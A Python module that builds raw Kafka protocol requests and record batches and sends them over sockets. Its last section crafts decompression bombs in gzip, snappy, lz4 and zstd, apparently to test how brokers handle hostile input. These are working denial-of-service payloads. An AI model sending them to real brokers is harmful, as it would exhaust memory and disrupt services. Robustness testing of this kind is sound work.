"""Kafka's protocol as plain bytes over a socket, for what no client library would send."""

import socket
import struct
import zlib

PRODUCE, METADATA, API_VERSIONS = 0, 3, 18
CODECS = {"none": 0, "gzip": 1, "snappy": 2, "lz4": 3, "zstd": 4}


def text(value):
    return struct.pack(">h", len(value)) + value.encode()


def header(api, version, correlation_id=1):
    """Without the tagged fields of flexible versions."""
    return struct.pack(">hhi", api, version, correlation_id) + text("raw")


def framed(payload):
    return struct.pack(">i", len(payload)) + payload


def exactly(stream, length):
    parts = bytearray()
    while len(parts) < length:
        piece = stream.recv(length - len(parts))
        if not piece:
            raise ConnectionError("the broker closed the connection")
        parts += piece
    return bytes(parts)


def answer(stream):
    """Header and body of the next answer."""
    (length,) = struct.unpack(">i", exactly(stream, 4))
    return exactly(stream, length)


def connect(address, seconds=30.0):
    stream = socket.create_connection(address, timeout=seconds)
    stream.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    return stream


def ask(address, api, version, body, seconds=30.0):
    """One request on a connection of its own; the answer's body, in versions without tagged fields."""
    with connect(address, seconds) as stream:
        stream.sendall(framed(header(api, version) + body))
        return answer(stream)[4:]


# === record batches ===

def _table():
    table = []
    for byte in range(256):
        for _ in range(8):
            byte = byte >> 1 ^ (0x82F63B78 if byte & 1 else 0)
        table.append(byte)
    return table


_CRC = _table()


def crc32c(payload):
    crc = 0xFFFFFFFF
    for byte in payload:
        crc = _CRC[(crc ^ byte) & 255] ^ crc >> 8
    return crc ^ 0xFFFFFFFF


def varint(number):
    number = number << 1 ^ number >> 63
    out = bytearray()
    while number > 127:
        out.append(number & 127 | 128)
        number >>= 7
    return bytes(out) + bytes([number])


def record(value):
    """The first of a batch, without a key."""
    body = b"\0" + varint(0) + varint(0) + varint(-1) + varint(len(value)) + value + varint(0)
    return varint(len(body)) + body


def batch(records, codec="none", count=1):
    """A batch whose length and checksum are right, whatever its records are."""
    behind = struct.pack(">hiqqqhii", CODECS[codec], count - 1, 1_700_000_000_000, 1_700_000_000_000, -1, -1, -1, count) + records
    return struct.pack(">qiibI", 0, 9 + len(behind), -1, 2, crc32c(behind)) + behind


def produce(topic, data):
    """The body of a Produce 7 of one batch, for partition 0, acks=all."""
    partition = struct.pack(">ii", 0, len(data)) + data
    return struct.pack(">hhii", -1, -1, 30_000, 1) + text(topic) + struct.pack(">i", 1) + partition


def produced(body):
    """Error code and base offset of the one partition."""
    (length,) = struct.unpack_from(">h", body, 4)
    return struct.unpack_from(">hq", body, 4 + 2 + length + 4 + 4)


# === bombs: a megabyte that claims to be, or becomes, what fits no memory ===

def gzip_bomb(mib):
    packer = zlib.compressobj(9, wbits=31)
    zeros = bytes(1 << 20)
    return b"".join(packer.compress(zeros) for _ in range(mib)) + packer.flush()


def _snappy_copies(length):
    """A zero, then copies of it, 64 bytes for 3."""
    copies = (length - 1) // 64
    size, packed = 1 + copies * 64, bytearray()
    while size > 127:
        packed.append(size & 127 | 128)
        size >>= 7
    return bytes(packed) + bytes([size]) + b"\x00\x00" + b"\xfe\x01\x00" * copies


def snappy_bomb(mib):
    return _snappy_copies(mib << 20)


def snappy_claim():
    """Says that it will be 4 GiB."""
    return b"\xff\xff\xff\xff\x0f" + b"\x00\x00" + b"\xfe\x01\x00" * 100


def xerial_bomb(mib):
    """The framing of Java's clients, in pieces of 32 KiB."""
    piece = _snappy_copies(32 << 10)
    piece = struct.pack(">i", len(piece)) + piece
    return b"\x82SNAPPY\x00" + struct.pack(">ii", 1, 1) + piece * (mib * 32)


def lz4_bomb(mib):
    """Blocks of 64 KiB: a zero, and a match of 65,530 bytes behind it, whose length takes a byte for 255."""
    match = 65_530 - 4 - 15
    block = b"\x1f\x00\x01\x00" + b"\xff" * (match // 255) + bytes([match % 255]) + b"\x50" + bytes(5)
    return b"\x04\x22\x4d\x18\x60\x40\x82" + (struct.pack("<I", len(block)) + block) * (mib * 16) + bytes(4)


def zstd_bomb(mib):
    """A window of 2 MiB, and blocks of one byte repeated 128 Ki times."""
    block = struct.pack("<I", (128 << 10) << 3 | 1 << 1)[:3] + b"\0"
    return b"\x28\xb5\x2f\xfd\x00\x58" + block * (mib * 8)
